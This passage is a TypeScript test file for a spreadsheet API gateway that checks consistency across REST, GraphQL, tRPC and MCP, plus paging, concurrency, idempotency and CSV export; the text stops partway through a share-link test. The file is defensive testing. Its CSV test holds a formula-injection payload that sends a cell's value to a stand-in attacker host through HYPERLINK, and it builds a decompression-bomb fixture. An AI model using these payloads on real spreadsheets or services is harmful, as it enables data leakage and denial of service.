// Spreadsheets through the real gateway, as callers meet them (CONTRACT §11, docs/api.md
// "Spreadsheets"): REST with plain fetch, GraphQL, tRPC through the project's @trpc/client and MCP
// through the SDK's client, on one gateway with its own SQLite file. What one surface writes the
// others read back the same; read formats and render modes; cursors that page a range without
// losing or repeating a cell; If-Match and expectedVersion, with exactly one winner among
// concurrent writes; idempotent appends; references that move with structure edits; evaluate;
// formula-injection-safe CSV; share links; the trash shared with documents; hostile imports that
// store nothing. The files other programs write and read (LibreOffice, openpyxl), restarts and
// PostgreSQL are in ./behaviour-files.test.ts and ./behaviour-store.test.ts.
import { strToU8, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { lieAboutSizes, zeroBomb } from "../documents/import/docx-fixtures.ts";
import { startTestGateway, type TestGateway } from "../helpers/gateway.ts";
import { buildXlsx, sheetXml } from "./xlsx-fixtures.ts";
import { graphql, mcp, rest, SHEETS_SCOPES, trpc, trpcOutcome, type Mcp, type Rest } from "./surfaces.ts";

interface Record_ {
  id: string;
  url: string;
  downloadUrl: string;
  version: number;
  cells: number;
  sheets: { name: string; rows: number; columns: number; usedRange: string | null; header: unknown }[];
}
interface WriteResult {
  spreadsheet: Record_;
  updatedRange: string | null;
  updatedCells: number;
  recalculatedCells: number;
  warnings: string[];
}
interface RangeBody {
  range: string;
  values: unknown[][];
  truncated: boolean;
  nextCursor: string | null;
}

// Built before the gateway starts: deflating 201 MB blocks this process (and the in-process gateway)
// for seconds, after which the server's overdue keep-alive timers close sockets the client is
// about to reuse (ECONNRESET on the next request).
const BOMB = lieAboutSizes(zeroBomb(201 * 1024 * 1024), 100);

let tg: TestGateway;
let key: string;
let api: Rest;
let gql: ReturnType<typeof graphql>;
let client: ReturnType<typeof trpc>;
let agent: Mcp;

beforeAll(async () => {
  tg = await startTestGateway();
  key = await tg.key({ user: "sheets-behaviour", scopes: SHEETS_SCOPES });
  api = rest(tg.url, key);
  gql = graphql(tg.url, key);
  client = trpc(tg.url, key);
  agent = await mcp(tg.url, key);
});
afterAll(async () => {
  await agent?.close();
  await tg?.close();
});

const BUDGET = [
  ["item", "qty", "price", "total"],
  ["apple", 3, 1.5, "=B2*C2"],
  ["pear", 2, 2.25, "=B3*C3"],
  ["plum", 4, 0.5, "=B4*C4"],
  ["sum", "=SUM(B2:B4)", null, "=SUM(D2:D4)"],
];
const BUDGET_VALUES = [
  ["item", "qty", "price", "total"],
  ["apple", 3, 1.5, 4.5],
  ["pear", 2, 2.25, 4.5],
  ["plum", 4, 0.5, 2],
  ["sum", 9, null, 11],
];

async function createBudget(name = "Budget"): Promise<Record_> {
  const created = await api.call<Record_>("POST", "/api/v1/spreadsheets", { name, sheets: [{ name: "Data", values: BUDGET }] });
  expect(created.status, created.text).toBe(201);
  expect(created.headers.get("etag")).toBe('"v1"');
  return created.body;
}

const values = (id: string, range: string, query = "") =>
  api.call<RangeBody>("GET", `/api/v1/spreadsheets/${id}/values/${encodeURIComponent(range)}${query}`);

describe("one workbook, four surfaces", () => {
  it("created through each surface, the formulas are computed and every surface reads the same cells", async () => {
    const sheets = [{ name: "Data", values: BUDGET }];
    const viaGraphql = await gql<{ createSpreadsheet: { id: string } }>(
      'mutation($sheets: [NewSheetInput!]) { createSpreadsheet(input: { name: "gql", sheets: $sheets }) { id } }',
      { sheets },
    );
    const viaTrpc = await client.sheets.create.mutate({ name: "trpc", sheets });
    const viaMcp = await agent.call("sheets_create", { name: "mcp", sheets });
    expect(viaMcp.isError, viaMcp.text).toBe(false);
    const ids = [(await createBudget("rest")).id, viaGraphql.data!.createSpreadsheet.id, viaTrpc.id, viaMcp.structured!["id"] as string];
    for (const id of ids) {
      expect((await values(id, "Data!A1:D5")).body.values, `REST ${id}`).toEqual(BUDGET_VALUES);
      const read = await gql<{ spreadsheet: { range: RangeBody } }>(
        `query($id: ID!) { spreadsheet(id: $id) { range(range: "A1:D5") { range values truncated nextCursor } } }`,
        { id },
      );
      expect(read.data!.spreadsheet.range).toEqual({ range: "Data!A1:D5", values: BUDGET_VALUES, truncated: false, nextCursor: null });
      expect(((await client.sheets.read.query({ id, range: "A1:D5" })) as RangeBody).values, `tRPC ${id}`).toEqual(BUDGET_VALUES);
      const viaAgent = await agent.call("sheets_read", { id, range: "Data!A1:D5" });
      expect(viaAgent.structured!["values"], `MCP ${id}`).toEqual(BUDGET_VALUES);
      expect(viaAgent.text).toContain("Data!A1:D5");
    }
  });

  it("sheets_describe, sheets.get, GraphQL and GET /{id} give the same record: sheets, used ranges, the header row", async () => {
    const { id } = await createBudget();
    const record = (await api.call<Record_>("GET", `/api/v1/spreadsheets/${id}`)).body;
    expect(record.sheets).toEqual([
      { name: "Data", index: 0, rows: 5, columns: 4, usedRange: "A1:D5", header: ["item", "qty", "price", "total"] },
    ]);
    expect(record.cells).toBe(19);
    // MCP answers absolute URLs (an agent has no base to resolve against); the rest is the same record.
    const described = (await agent.call("sheets_describe", { id })).structured!;
    expect(described).toEqual({ ...record, url: `${tg.url}${record.url}`, downloadUrl: `${tg.url}${record.downloadUrl}` });
    expect(await client.sheets.get.query({ id })).toEqual(record);
    const viaGraphql = await gql<{ spreadsheet: unknown }>(
      `query($id: ID!) { spreadsheet(id: $id) { id version cells sheets { name index rows columns usedRange header } } }`,
      { id },
    );
    expect(viaGraphql.data!.spreadsheet).toEqual({ id, version: 1, cells: 19, sheets: record.sheets });
  });
});

describe("reads: render modes and formats", () => {
  it("render=formula gives the formula text, render=both {value, formula}, on REST, GraphQL, tRPC and MCP alike", async () => {
    const { id } = await createBudget();
    const formulas = BUDGET.map((row) => row.map((cell) => cell));
    expect((await values(id, "A1:D5", "?render=formula")).body.values).toEqual(formulas);
    const both = (await values(id, "D2:D2", "?render=both")).body.values;
    expect(both).toEqual([[{ value: 4.5, formula: "=B2*C2" }]]);
    const viaGraphql = await gql<{ spreadsheet: { f: RangeBody; b: RangeBody } }>(
      `query($id: ID!) { spreadsheet(id: $id) { f: range(range: "A1:D5", render: FORMULA) { values } b: range(range: "D2", render: BOTH) { values } } }`,
      { id },
    );
    expect(viaGraphql.data!.spreadsheet.f.values).toEqual(formulas);
    expect(viaGraphql.data!.spreadsheet.b.values).toEqual(both);
    expect(((await client.sheets.read.query({ id, range: "A1:D5", render: "formula" })) as RangeBody).values).toEqual(formulas);
    expect((await agent.call("sheets_read", { id, range: "D2", render: "both" })).structured!["values"]).toEqual(both);
  });

  it("format=csv and format=markdown answer text/csv and text/markdown; tRPC and MCP give the same text", async () => {
    const { id } = await createBudget();
    const csv = await values(id, "A1:D5", "?format=csv");
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(csv.text).toBe("item,qty,price,total\r\napple,3,1.5,4.5\r\npear,2,2.25,4.5\r\nplum,4,0.5,2\r\nsum,9,,11\r\n");
    const markdown = await values(id, "A1:D5", "?format=markdown");
    expect(markdown.headers.get("content-type")).toMatch(/^text\/markdown/);
    expect(markdown.text).toBe(
      "| item | qty | price | total |\n| --- | ---: | ---: | ---: |\n| apple | 3 | 1.5 | 4.5 |\n| pear | 2 | 2.25 | 4.5 |\n| plum | 4 | 0.5 | 2 |\n| sum | 9 |  | 11 |\n",
    );
    expect(await client.sheets.read.query({ id, range: "A1:D5", format: "csv" })).toMatchObject({ format: "csv", text: csv.text });
    const viaAgent = await agent.call("sheets_read", { id, range: "A1:D5", format: "markdown" });
    expect(viaAgent.structured).toMatchObject({ range: "Data!A1:D5", format: "markdown", text: markdown.text, truncated: false });
  });

  it("a markdown table keeps a cell's pipe and line break inside its cell", async () => {
    const created = await api.call<Record_>("POST", "/api/v1/spreadsheets", {
      name: "pipes",
      input: "raw",
      sheets: [
        {
          name: "S",
          values: [
            ["a", "b"],
            ["x | y", "one\ntwo"],
          ],
        },
      ],
    });
    const text = (await values(created.body.id, "A1:B2", "?format=markdown")).text;
    const lines = text.trimEnd().split("\n");
    expect(lines).toHaveLength(3);
    // Every row has exactly the table's three unescaped pipes.
    for (const line of lines) expect(line.match(/(?<!\\)\|/g), line).toHaveLength(3);
  });

  it("dates read as ISO 8601, errors as {error}, and values in as a person types them (input=parse) or as they are (input=raw)", async () => {
    const created = await api.call<Record_>("POST", "/api/v1/spreadsheets", {
      name: "types",
      sheets: [{ name: "S", values: [["2026-01-31", "12%", "TRUE", "00123", "=1/0", "=DATE(2026,1,31)+0.5", "=EOMONTH(A1,1)"]] }],
    });
    expect((await values(created.body.id, "A1:G1")).body.values).toEqual([
      ["2026-01-31", 0.12, true, 123, { error: "#DIV/0!" }, expect.any(Number), "2026-02-28"],
    ]);
    const tooSmall = await api.call<{ error: { code: string; details: unknown } }>(
      "PUT",
      `/api/v1/spreadsheets/${created.body.id}/values/A2`,
      {
        values: [[1, 2]],
      },
    );
    expect(tooSmall.status).toBe(400);
    expect(tooSmall.body.error).toMatchObject({ code: "BAD_USER_INPUT", details: { subject: "A2" } });
    const raw = await api.call<WriteResult>("PUT", `/api/v1/spreadsheets/${created.body.id}/values/A2:F2`, {
      values: [["2026-01-31", "12%", "TRUE", "00123", "=1/0"]],
      input: "raw",
    });
    expect(raw.body.updatedCells).toBe(5);
    expect((await values(created.body.id, "A2:E2")).body.values).toEqual([["2026-01-31", "12%", "TRUE", "00123", "=1/0"]]);
  });
});

describe("bounded reads and cursors", () => {
  const ROWS = Array.from({ length: 37 }, (_, r) => Array.from({ length: 3 }, (_, c) => r * 3 + c));

  async function pages(read: (cursor: string | null) => Promise<RangeBody>): Promise<{ rows: unknown[][]; pages: number }> {
    const rows: unknown[][] = [];
    let cursor: string | null = null;
    let count = 0;
    do {
      const page = await read(cursor);
      rows.push(...page.values);
      expect(page.truncated).toBe(page.nextCursor !== null);
      cursor = page.nextCursor;
      count++;
    } while (cursor && count < 100);
    return { rows, pages: count };
  }

  it("maxCells cuts at whole rows; following nextCursor reads every row once, on every surface", async () => {
    const created = await client.sheets.create.mutate({ name: "paged", sheets: [{ name: "P", values: ROWS }] });
    const id = created.id;
    const first = (await values(id, "A:C", "?maxCells=10")).body;
    expect(first).toMatchObject({ range: "P!A1:C3", truncated: true });
    expect(first.values).toEqual(ROWS.slice(0, 3));

    const viaRest = await pages(async (cursor) => (await values(id, "A:C", `?maxCells=10${cursor ? `&cursor=${cursor}` : ""}`)).body);
    expect(viaRest).toEqual({ rows: ROWS, pages: 13 });
    const viaTrpc = await pages(
      (cursor) => client.sheets.read.query({ id, range: "A1:C", maxCells: 30, ...(cursor ? { cursor } : {}) }) as Promise<RangeBody>,
    );
    expect(viaTrpc).toEqual({ rows: ROWS, pages: 4 });
    const viaMcp = await pages(async (cursor) => {
      const answer = await agent.call("sheets_read", { id, range: "A:C", maxCells: 45, ...(cursor ? { cursor } : {}) });
      if (answer.structured!["truncated"]) expect(answer.text).toContain(`cursor "${answer.structured!["nextCursor"] as string}"`);
      return answer.structured as unknown as RangeBody;
    });
    expect(viaMcp).toEqual({ rows: ROWS, pages: 3 });
    const viaGraphql = await pages(async (cursor) => {
      const answer = await gql<{ spreadsheet: { range: RangeBody } }>(
        `query($id: ID!, $cursor: String) { spreadsheet(id: $id) { range(range: "A:C", maxCells: 60, cursor: $cursor) { range values truncated nextCursor } } }`,
        { id, cursor },
      );
      return answer.data!.spreadsheet.range;
    });
    expect(viaGraphql).toEqual({ rows: ROWS, pages: 2 });

    // A cursor belongs to its spreadsheet and range as written: sent with another, it is refused, not read as an offset.
    const other = await client.sheets.create.mutate({ name: "other", sheets: [{ name: "P", values: ROWS }] });
    for (const [sheetId, range] of [
      [id, "A1:C"],
      [other.id, "A:C"],
    ] as const) {
      const refused = await values(sheetId, range, `?maxCells=10&cursor=${first.nextCursor!}`);
      expect(refused.status).toBe(400);
      expect(refused.body as unknown).toMatchObject({
        error: { code: "BAD_USER_INPUT", message: expect.stringMatching(/^cursor: .*same id and range/) },
      });
    }
  });

  it("sheets_read defaults to 2,000 cells and says it truncated; the REST default is 10,000", async () => {
    const wide = Array.from({ length: 50 }, (_, r) => Array.from({ length: 50 }, (_, c) => r + c));
    const { id } = await client.sheets.create.mutate({ name: "wide", sheets: [{ name: "W", values: wide }] });
    const answer = await agent.call("sheets_read", { id, range: "A:AX" });
    expect(answer.structured).toMatchObject({ range: "W!A1:AX40", truncated: true });
    expect(answer.text).toMatch(/\[truncated: more cells remain/);
    const rest_ = await values(id, "A:AX", `?cursor=${answer.structured!["nextCursor"] as string}`);
    expect(rest_.body).toMatchObject({ range: "W!A41:AX50", truncated: false, nextCursor: null });
    expect(rest_.body.values).toEqual(wide.slice(40));
    // The REST default is 10,000 cells: all 2,500 in one answer.
    expect((await values(id, "A:AX")).body).toMatchObject({ range: "W!A1:AX50", truncated: false, nextCursor: null });
  });
});

describe("If-Match and expectedVersion", () => {
  it("a stale If-Match is 412 and writes nothing; the current one writes and moves the ETag", async () => {
    const { id } = await createBudget();
    const fresh = await api.call<WriteResult>("PUT", `/api/v1/spreadsheets/${id}/values/B2`, { values: [[10]] }, { "if-match": '"v1"' });
    expect(fresh.status, fresh.text).toBe(200);
    expect(fresh.headers.get("etag")).toBe('"v2"');
    expect(fresh.body).toMatchObject({ updatedRange: "Data!B2", updatedCells: 1, recalculatedCells: 3 });
    // Reads about the workbook carry its ETag too: a range (as JSON and as CSV), a computed value;
    // If-None-Match with it is 304.
    for (const path of [`/values/B2`, `/values/B2?format=csv`]) {
      const read = await api.call("GET", `/api/v1/spreadsheets/${id}${path}`);
      expect(read.headers.get("etag"), path).toBe('"v2"');
      expect((await api.call("GET", `/api/v1/spreadsheets/${id}${path}`, undefined, { "if-none-match": '"v2"' })).status, path).toBe(304);
    }
    const computed = await api.call("POST", `/api/v1/spreadsheets/${id}/evaluate`, { formula: "=B2*2" });
    expect(computed.headers.get("etag")).toBe('"v2"');
    const stale = await api.call<{ error: { code: string } }>(
      "PUT",
      `/api/v1/spreadsheets/${id}/values/B2`,
      { values: [[99]] },
      { "if-match": '"v1"' },
    );
    expect(stale.status).toBe(412);
    expect(stale.body.error.code).toBe("PRECONDITION_FAILED");
    // A tag this API never issued (the bare version) matches no version either, and says what an ETag looks like.
    const unissued = await api.call<{ error: { message: string } }>(
      "PUT",
      `/api/v1/spreadsheets/${id}/values/B2`,
      { values: [[99]] },
      { "if-match": '"2"' },
    );
    expect(unissued.status).toBe(412);
    expect(unissued.body.error.message).toBe('If-Match "2" matches no version (ETags are "v<n>"); nothing was written');
    for (const [path, body] of [
      ["append", { values: [["x"]] }],
      ["edit", { operations: [{ insertRows: { sheet: "Data", at: 1, count: 1 } }] }],
    ] as const) {
      expect((await api.call("POST", `/api/v1/spreadsheets/${id}/${path}`, body, { "if-match": '"v1"' })).status, path).toBe(412);
    }
    expect((await api.call("PATCH", `/api/v1/spreadsheets/${id}`, { name: "x" }, { "if-match": '"v1"' })).status).toBe(412);
    expect((await api.call("DELETE", `/api/v1/spreadsheets/${id}`, undefined, { "if-match": '"v1"' })).status).toBe(412);
    expect((await values(id, "B2:D5")).body.values).toEqual([
      [10, 1.5, 15],
      [2, 2.25, 4.5],
      [4, 0.5, 2],
      [16, null, 21.5],
    ]);
    expect((await api.call<Record_>("GET", `/api/v1/spreadsheets/${id}`)).body.version).toBe(2);
  });

  it("a stale expectedVersion is PRECONDITION_FAILED on GraphQL, tRPC and MCP", async () => {
    const { id } = await createBudget();
    await client.sheets.write.mutate({ id, range: "A2", values: [["apricot"]], expectedVersion: 1 });
    const viaGraphql = await gql(
      `mutation($id: ID!) { writeRange(input: {id: $id, range: "A1", values: [[1]], expectedVersion: 1}) { updatedCells } }`,
      { id },
    );
    expect(viaGraphql.errors?.[0]?.extensions?.code).toBe("PRECONDITION_FAILED");
    expect(
      await trpcOutcome(() => client.sheets.edit.mutate({ id, operations: [{ clear: { range: "A1" } }], expectedVersion: 1 })),
    ).toEqual({
      ok: false,
      code: "PRECONDITION_FAILED",
    });
    const viaMcp = await agent.call("sheets_write", { id, range: "A1", values: [[1]], expectedVersion: 1 });
    expect(viaMcp.isError).toBe(true);
    expect(viaMcp.text).toMatch(/PRECONDITION_FAILED|version 2/);
    expect((await values(id, "A1:A2")).body.values).toEqual([["item"], ["apricot"]]);
  });

  it("twelve concurrent writes with the same If-Match: exactly one wins, the others are 412, and the winner's cell is the one stored", async () => {
    const { id } = await createBudget();
    const answers = await Promise.all(
      Array.from({ length: 12 }, (_, i) =>
        api.call<WriteResult>("PUT", `/api/v1/spreadsheets/${id}/values/B2`, { values: [[100 + i]] }, { "if-match": '"v1"' }),
      ),
    );
    const statuses = answers.map((a) => a.status).sort();
    expect(statuses).toEqual([200, ...Array<number>(11).fill(412)]);
    const winner = answers.findIndex((a) => a.status === 200);
    expect((await values(id, "B2")).body.values).toEqual([[100 + winner]]);
    expect((await api.call<Record_>("GET", `/api/v1/spreadsheets/${id}`)).body.version).toBe(2);
  });

  it("concurrent writes with one expectedVersion across REST, GraphQL, tRPC and MCP: exactly one winner", async () => {
    const { id } = await createBudget();
    const outcomes = await Promise.all([
      api.call("PUT", `/api/v1/spreadsheets/${id}/values/C2`, { values: [["rest"]] }, { "if-match": '"v1"' }).then((a) => a.status === 200),
      gql(`mutation($id: ID!) { writeRange(input: {id: $id, range: "C2", values: [["graphql"]], expectedVersion: 1}) { updatedCells } }`, {
        id,
      }).then((a) => !a.errors),
      trpcOutcome(() => client.sheets.write.mutate({ id, range: "C2", values: [["trpc"]], expectedVersion: 1 })).then((a) => a.ok),
      agent.call("sheets_write", { id, range: "C2", values: [["mcp"]], expectedVersion: 1 }).then((a) => !a.isError),
      api
        .call(
          "POST",
          `/api/v1/spreadsheets/${id}/edit`,
          { operations: [{ write: { range: "C2", values: [["edit"]] } }] },
          { "if-match": '"v1"' },
        )
        .then((a) => a.status === 200),
    ]);
    expect(outcomes.filter(Boolean)).toHaveLength(1);
    const stored = (await values(id, "C2")).body.values[0]![0];
    expect(["rest", "graphql", "trpc", "mcp", "edit"][outcomes.indexOf(true)]).toBe(stored);
    expect((await api.call<Record_>("GET", `/api/v1/spreadsheets/${id}`)).body.version).toBe(2);
  });
});

describe("idempotent appends", () => {
  it("a retried append with the same Idempotency-Key adds its rows once and answers the same, marked replayed", async () => {
    const { id } = await createBudget();
    const body = { sheet: "Data", values: [["fig", 1, 3, "=B6*C6"]] };
    const first = await api.call<WriteResult>("POST", `/api/v1/spreadsheets/${id}/append`, body, { "idempotency-key": "append-1" });
    expect(first.status, first.text).toBe(200);
    expect(first.body).toMatchObject({ updatedRange: "Data!A6:D6", updatedCells: 4 });
    const again = await api.call<WriteResult>("POST", `/api/v1/spreadsheets/${id}/append`, body, { "idempotency-key": "append-1" });
    expect(again.body).toEqual(first.body);
    expect(again.headers.get("idempotent-replayed")).toBe("true");
    expect((await values(id, "A:A")).body.values.flat()).toEqual(["item", "apple", "pear", "plum", "sum", "fig"]);
    // The same key from tRPC (idempotencyKey) is the same append.
    expect(await client.sheets.append.mutate({ id, ...body, idempotencyKey: "append-1" })).toEqual(first.body);
    // Another key appends again, under the last non-empty row; records are matched to the header by name.
    const records = await client.sheets.append.mutate({
      id,
      records: [{ total: "=B7*C7", qty: 5, item: "lime", price: 1 }],
      idempotencyKey: "append-2",
    });
    expect(records.updatedRange).toBe("Data!A7:D7");
    expect((await values(id, "A7:D7")).body.values).toEqual([["lime", 5, 1, 5]]);
  });

  it("a key first used on another spreadsheet is refused there, and nothing is appended", async () => {
    const [a, b] = [await createBudget("keyed A"), await createBudget("keyed B")];
    const first = await api.call<WriteResult>(
      "POST",
      `/api/v1/spreadsheets/${a.id}/append`,
      { values: [["a"]] },
      { "idempotency-key": "shared" },
    );
    expect(first.status).toBe(200);
    const elsewhere = await api.call<{ error: { code: string; message: string } }>(
      "POST",
      `/api/v1/spreadsheets/${b.id}/append`,
      { values: [["b"]] },
      { "idempotency-key": "shared" },
    );
    expect(elsewhere.status, elsewhere.text).toBe(400);
    expect(elsewhere.body.error.message).toContain(a.id);
    expect((await values(b.id, "A:A")).body.values.flat()).toEqual(["item", "apple", "pear", "plum", "sum"]);
    expect(await trpcOutcome(() => client.sheets.append.mutate({ id: b.id, values: [["b"]], idempotencyKey: "shared" }))).toEqual({
      ok: false,
      code: "BAD_USER_INPUT",
    });
  });

  it("eight concurrent appends with one key add one row", async () => {
    const { id } = await createBudget();
    const answers = await Promise.all(
      Array.from({ length: 8 }, () =>
        api.call<WriteResult>("POST", `/api/v1/spreadsheets/${id}/append`, { values: [["once"]] }, { "idempotency-key": "race-1" }),
      ),
    );
    const settled = answers.filter((a) => a.status === 200);
    expect(settled.length).toBeGreaterThan(0);
    // A request that raced the first one either replays it or is told the key is in use (409): never a second row.
    for (const answer of answers) expect([200, 409], answer.text).toContain(answer.status);
    for (const answer of settled) expect(answer.body.updatedRange).toBe("Data!A6");
    expect((await values(id, "A:A")).body.values.flat()).toEqual(["item", "apple", "pear", "plum", "sum", "once"]);
  });

  it("the same key with another body answers the first result (as for documents) and appends nothing", async () => {
    const { id } = await createBudget();
    const first = await api.call<WriteResult>("POST", `/api/v1/spreadsheets/${id}/append`, { values: [["a"]] }, { "idempotency-key": "k" });
    const other = await api.call<WriteResult>("POST", `/api/v1/spreadsheets/${id}/append`, { values: [["b"]] }, { "idempotency-key": "k" });
    expect(other.body).toEqual(first.body);
    expect(other.headers.get("idempotent-replayed")).toBe("true");
    expect((await values(id, "A:A")).body.values.flat()).toEqual(["item", "apple", "pear", "plum", "sum", "a"]);
  });
});

describe("structure edits move references, as in Excel", () => {
  const formulasOf = async (id: string, range: string) => (await values(id, range, "?render=formula")).body.values;

  it("rows inserted inside a referenced range widen it; rows deleted shrink it; a deleted referenced cell is #REF!", async () => {
    const { id } = await createBudget();
    const inserted = await api.call<WriteResult>("POST", `/api/v1/spreadsheets/${id}/edit`, {
      operations: [{ insertRows: { sheet: "Data", at: 3, count: 2 } }, { write: { range: "A3:D3", values: [["kiwi", 10, 1, "=B3*C3"]] } }],
    });
    expect(inserted.status, inserted.text).toBe(200);
    expect(await formulasOf(id, "B7:D7")).toEqual([["=SUM(B2:B6)", null, "=SUM(D2:D6)"]]);
    expect(await formulasOf(id, "D5")).toEqual([["=B5*C5"]]);
    expect((await values(id, "B7:D7")).body.values).toEqual([[19, null, 21]]);
    // One new version for the whole edit.
    expect(inserted.body.spreadsheet.version).toBe(2);

    await client.sheets.edit.mutate({ id, operations: [{ deleteRows: { sheet: "Data", at: 4, count: 1 } }] });
    expect(await formulasOf(id, "B6:D6")).toEqual([["=SUM(B2:B5)", null, "=SUM(D2:D5)"]]);
    expect((await values(id, "B6:D6")).body.values).toEqual([[19, null, 21]]);

    // Deleting row 2 removes the cell D2 that E1 names alone: #REF!, as Excel shows it.
    await client.sheets.write.mutate({ id, range: "E1", values: [["=D2*2"]] });
    await client.sheets.edit.mutate({ id, operations: [{ deleteRows: { sheet: "Data", at: 2, count: 1 } }] });
    expect((await values(id, "E1")).body.values).toEqual([[{ error: "#REF!" }]]);
    expect(await formulasOf(id, "B5:D5")).toEqual([["=SUM(B2:B4)", null, "=SUM(D2:D4)"]]);
  });

  it("inserted and deleted columns move references; a renamed sheet is renamed in the formulas that name it", async () => {
    const { id } = await createBudget();
    await api.call("POST", `/api/v1/spreadsheets/${id}/edit`, {
      operations: [{ addSheet: { name: "Summary" } }, { write: { range: "Summary!A1", values: [["=SUM(Data!D2:D4)"]] } }],
    });
    await client.sheets.edit.mutate({ id, operations: [{ insertColumns: { sheet: "Data", at: "B", count: 1 } }] });
    expect(await formulasOf(id, "Data!E2")).toEqual([["=C2*D2"]]);
    expect(await formulasOf(id, "Summary!A1")).toEqual([["=SUM(Data!E2:E4)"]]);
    await client.sheets.edit.mutate({ id, operations: [{ renameSheet: { sheet: "Data", name: "Q1 Sales" } }] });
    expect(await formulasOf(id, "Summary!A1")).toEqual([["=SUM('Q1 Sales'!E2:E4)"]]);
    await client.sheets.edit.mutate({ id, operations: [{ deleteColumns: { sheet: "Q1 Sales", at: "B", count: 1 } }] });
    expect(await formulasOf(id, "Summary!A1")).toEqual([["=SUM('Q1 Sales'!D2:D4)"]]);
    expect((await values(id, "Summary!A1")).body.values).toEqual([[11]]);
    expect((await values(id, "'Q1 Sales'!A1:D1")).body.values).toEqual([["item", "qty", "price", "total"]]);
  });

  it("a cell written back to an earlier value, and columns inserted then deleted, store the earlier cells again", async () => {
    // Both bring back tiles and pages an earlier version stored (content is stored once).
    const { id } = await createBudget();
    for (const value of ["changed", "item", "changed", "item"]) {
      const answer = await api.call("PUT", `/api/v1/spreadsheets/${id}/values/A1`, { values: [[value]] });
      expect(answer.status, answer.text).toBe(200);
    }
    for (const operation of ["insertColumns", "deleteColumns", "insertRows", "deleteRows"] as const) {
      const at = operation.endsWith("Columns") ? "B" : 2;
      const answer = await api.call("POST", `/api/v1/spreadsheets/${id}/edit`, {
        operations: [{ [operation]: { sheet: "Data", at, count: 1 } }],
      });
      expect(answer.status, `${operation}: ${answer.text}`).toBe(200);
    }
    expect((await values(id, "A1:D5")).body.values).toEqual(BUDGET_VALUES);
    expect((await api.call<Record_>("GET", `/api/v1/spreadsheets/${id}`)).body.version).toBe(9);
  });

  it("an edit that fails part-way writes nothing (all or nothing)", async () => {
    const { id } = await createBudget();
    const refused = await api.call<{ error: { code: string; message: string } }>("POST", `/api/v1/spreadsheets/${id}/edit`, {
      operations: [{ insertRows: { sheet: "Data", at: 1, count: 1 } }, { deleteSheet: { sheet: "Nope" } }],
    });
    expect(refused.status).toBe(400);
    expect(refused.body.error.message).toContain("Nope");
    expect((await values(id, "A1:D5")).body.values).toEqual(BUDGET_VALUES);
    expect((await api.call<Record_>("GET", `/api/v1/spreadsheets/${id}`)).body.version).toBe(1);
  });
});

describe("evaluate", () => {
  it("computes a formula against the workbook on every surface and writes nothing", async () => {
    const { id } = await createBudget();
    const formula = "=SUMPRODUCT(B2:B4,C2:C4)/COUNT(B2:B4)";
    const viaRest = await api.call<{ value: unknown }>("POST", `/api/v1/spreadsheets/${id}/evaluate`, { formula });
    // 15 significant digits, as Excel keeps them.
    expect(viaRest.body).toEqual({ value: 3.66666666666667 });
    expect(await client.sheets.evaluate.query({ id, formula: '=VLOOKUP("pear",A2:D4,4,FALSE)' })).toEqual({ value: 4.5 });
    expect((await agent.call("sheets_evaluate", { id, formula: "=1/0" })).structured).toEqual({ value: { error: "#DIV/0!" } });
    const refused = await api.call<{ error: { code: string } }>("POST", `/api/v1/spreadsheets/${id}/evaluate`, {
      formula: '=WEBSERVICE("http://x")',
    });
    expect(refused.body.error.code).toBe("BAD_USER_INPUT");
    expect((await api.call<Record_>("GET", `/api/v1/spreadsheets/${id}`)).body.version).toBe(1);
  });
});

describe("CSV is formula-injection safe", () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+1+2", "-3+4", "@SUM(1)", "\tx", "\ry", "safe", "a=b"];

  it("text beginning with = + - @, tab or CR is prefixed with ' in the CSV download and in CSV reads; numbers are not", async () => {
    const created = await api.call<Record_>("POST", "/api/v1/spreadsheets", {
      name: "hostile text",
      input: "raw",
      sheets: [{ name: "S", values: [HOSTILE, [-5, 1.5, "=kept as text"]] }],
    });
    const { id } = created.body;
    // The cells themselves hold the text as written.
    expect((await values(id, "A1:H1")).body.values).toEqual([HOSTILE]);
    const download = await api.call("GET", `/api/v1/spreadsheets/${id}/content?format=csv&sheet=S`);
    expect(download.status).toBe(200);
    expect(download.headers.get("content-type")).toMatch(/^text\/csv/);
    const lines = download.text.split("\r\n");
    expect(lines[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A2,""click"")",'+1+2,'-3+4,'@SUM(1),'\tx,"'\ry",safe,a=b`);
    expect(lines[1]).toBe("-5,1.5,'=kept as text,,,,,");
    expect((await values(id, "A1:H2", "?format=csv")).text).toBe(download.text);
    expect((await client.sheets.read.query({ id, range: "A1:H2", format: "csv" })) as unknown).toMatchObject({ text: download.text });
  });

  it("a formula's text result is also prefixed (the value is what the CSV carries)", async () => {
    const { id } = await client.sheets.create.mutate({ name: "computed", sheets: [{ name: "S", values: [['="="&"1+1"', '="@"&"x"']] }] });
    expect((await values(id, "A1:B1")).body.values).toEqual([["=1+1", "@x"]]);
    expect((await api.call("GET", `/api/v1/spreadsheets/${id}/content?format=csv&sheet=S`)).text).toBe("'=1+1,'@x\r\n");
  });
});

describe("share links", () => {
  it("a share link reads the first sheet without a credential, downloads the .xlsx, and stops when revoked", async () => {
    const { id } = await createBudget();
    const share = await api.call<{ id: string; url: string }>("POST", `/api/v1/spreadsheets/${id}/shares`, { expiresInSeconds: 3600 });
    expect(share.status, share.text).toBe(201);
    const anonymous = await fetch(`${tg.url}${share.body.url}?maxCells=8`);
    expect(anonymous.status).toBe(200);
    expect(await anonymous.json()).toMatchObject({
      kind: "spreadsheet",
      spreadsheet: { id, version: 1 },
      range: "Data!A1:D2",
      values: BUDGET_VALUES.slice(0, 2),
      truncated: true,
    });
    const ranged = (await (await fetch(`${tg.url}${share.body.url}?range=${encodeURIComponent("B5:D5")}`)).json()) as RangeBody;
    expect(ranged.values).toEqual([[9, null, 11]]);
    const file = await fetch(`${tg.url}${share.body.url}/content`);
    expect(file.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(new Uint8Array(await file.arrayBuffer()).slice(0, 2)).toEqual(new Uint8Array([0x50, 0x4b]));
    // The other surfaces list it, never with its token.
    const listed = await client.sheets.shares.query({ id });
    expect(JSON.stringify(listed)).not.toContain(share.body.url.split("/").pop()!);
    expect(listed).toEqual(expect.objectContaining({ shares: [expect.objectContaining({ id: share.body.id })] }));
    const viaGraphql = await gql<{ spreadsheet: { shares: { id: string }[] } }>(
      `query($id: ID!) { spreadsheet(id: $id) { shares { id } } }`,
      { id },
    );
